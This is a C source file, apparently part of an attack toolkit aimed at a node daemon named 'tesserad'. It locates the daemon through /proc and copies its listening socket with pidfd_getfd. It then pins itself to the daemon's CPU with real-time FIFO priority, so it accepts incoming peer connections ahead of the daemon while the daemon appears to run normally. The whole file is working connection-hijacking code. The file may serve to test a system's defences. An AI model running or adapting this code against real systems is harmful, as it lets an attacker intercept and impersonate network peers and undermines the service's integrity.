// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The agent accepts the links of other nodes. We share its listening socket, and
 * with it one processor, on which we go first: so each caller is ours, while the
 * agent goes on being a good member.
 */
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

static pid_t process_named(const char *name)
{
	char path[300], comm[32];
	struct dirent *entry;
	DIR *proc = opendir("/proc");
	pid_t found = 0;

	while (proc && !found && (entry = readdir(proc))) {
		FILE *file;

		snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
		file = atoi(entry->d_name) > 0 ? fopen(path, "r") : NULL;
		if (!file)
			continue;
		if (fscanf(file, "%31s", comm) == 1 && strcmp(comm, name) == 0)
			found = atoi(entry->d_name);
		fclose(file);
	}
	if (proc)
		closedir(proc);
	return found;
}

static bool is_listener(int fd)
{
	struct sockaddr_in6 address = { 0 };
	socklen_t size = sizeof(address);
	int listens = 0;
	socklen_t int_size = sizeof(listens);

	return getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listens, &int_size) ==
		       0 &&
	       listens &&
	       getsockname(fd, (struct sockaddr *)&address, &size) == 0 &&
	       address.sin6_family == AF_INET6 &&
	       ntohs(address.sin6_port) == LINK_PORT;
}

static void go_first(pid_t agent)
{
	const struct sched_param param = { .sched_priority = 50 };
	cpu_set_t first;

	CPU_ZERO(&first);
	CPU_SET(0, &first);
	if (sched_setaffinity(agent, sizeof(first), &first) < 0 ||
	    sched_setaffinity(0, sizeof(first), &first) < 0 ||
	    sched_setscheduler(0, SCHED_FIFO, &param) < 0)
		die("cannot go first");
}

int listener_steal(void)
{
	pid_t agent = process_named("tesserad");
	int pidfd = agent ? syscall(SYS_pidfd_open, agent, 0) : -1;

	if (pidfd < 0)
		die("no agent");
	for (int i = 0; i < 256; i++) {
		int fd = syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd >= 0 && is_listener(fd)) {
			close(pidfd);
			go_first(agent);
			return fd;
		}
		if (fd >= 0)
			close(fd);
	}
	errno = ENOENT;
	die("the agent does not listen");
}

bool listener_accept(int listener, struct wire *wire, int within_ms)
{
	struct pollfd caller = { .fd = listener, .events = POLLIN };
	int64_t end = now_ms() + within_ms, left;
	int fd;

	wire_close(wire);
	while ((left = end - now_ms()) > 0) {
		if (poll(&caller, 1, left) != 1)
			continue;
		fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
		if (fd >= 0)
			return wire_greet(wire, fd);
	}
	return false;
}
